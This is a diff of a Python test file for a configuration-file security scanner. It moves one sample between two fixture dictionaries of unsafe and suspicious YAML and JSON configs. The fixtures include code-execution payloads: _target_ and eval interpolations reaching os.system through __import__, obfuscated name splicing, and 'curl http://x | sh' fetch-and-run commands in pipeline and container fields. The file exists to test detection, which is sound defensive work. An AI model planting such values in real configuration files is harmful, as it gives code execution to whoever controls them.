@@ -12,6 +12,7 @@ from scanning.scanners.base import read_head
 
 CALL = "__import__('os').system('true')"
 UNSAFE = {
+    "handed_on.yaml": "x: '${eval:(lambda o: o.system(1))(__import__(''os''))}'",
     "whole.yaml": "f: os.system\nm: {_target_: '${f}'}",
     "middle.yaml": "a: sys\nm: {_target_: 'os.${a}tem'}",
     "blanks.yaml": "a: ${ b }\nb: os.system\nm: {_target_: '${ a }'}",
@@ -58,7 +59,6 @@ SUSPICIOUS = {
     "no_name.yaml": "_target_: builtins.__import__('os').system",
     "stage.yaml": "stages: {a: {cmd: curl http://x | sh}}",
     "container.yaml": "spec: {containers: [{args: ['-c', 'curl http://x | sh']}]}",
-    "not_followed.yaml": "x: '${eval:(lambda o: o.system(1))(__import__(''os''))}'",
     "at_hand.json": json.dumps({"x": "$torch.hub.load('some/repo', 'y')"}),
     "imported.json": json.dumps({"x": "$monai.utils.optional_import('os')[0].system('true')"}),
     "no_python.json": json.dumps({"a": "$os.system('true') if"}),
